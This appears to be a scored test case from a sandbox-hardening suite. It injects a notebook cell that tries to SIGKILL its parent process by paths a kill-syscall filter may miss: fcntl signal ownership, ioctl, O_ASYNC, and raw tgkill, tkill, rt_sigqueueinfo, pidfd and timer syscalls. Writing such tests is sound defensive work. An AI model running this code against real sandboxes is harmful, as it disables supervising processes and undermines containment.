"""Signals others where the filter of kill does not look: a descriptor's owner, tgkill, pidfd, timers, sigqueue."""

from hostile import add_cell

POINTS = 10


def attack(notebook):
    return add_cell(
        notebook,
        """
        import ctypes, fcntl, os, signal, socket, struct
        libc = ctypes.CDLL(None)
        a, b = socket.socketpair()
        done = []
        for command, value in ((8, os.getppid()), (10, signal.SIGKILL),
                               (15, struct.pack("ii", 1, os.getppid())), (1024, 1)):
            try:
                fcntl.fcntl(a, command, value)
                done.append(command)
            except OSError:
                pass
        for command in (0x8901, 0x8902):
            try:
                fcntl.ioctl(a, command, struct.pack("i", os.getppid()))
                done.append(command)
            except OSError:
                pass
        fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)
        b.send(b"x")
        parent = os.getppid()
        for number, arguments in ((234, (parent, parent, 9)), (200, (parent, 9)), (129, (parent, 9, bytes(128))),
                                  (434, (parent, 0)),
                                  (222, (0, bytes(64), bytes(8)))):
            if os.uname().machine == "x86_64" and libc.syscall(number, *arguments) != -1:
                done.append(number)
        if done:
            os._exit(99)
        """,
    )
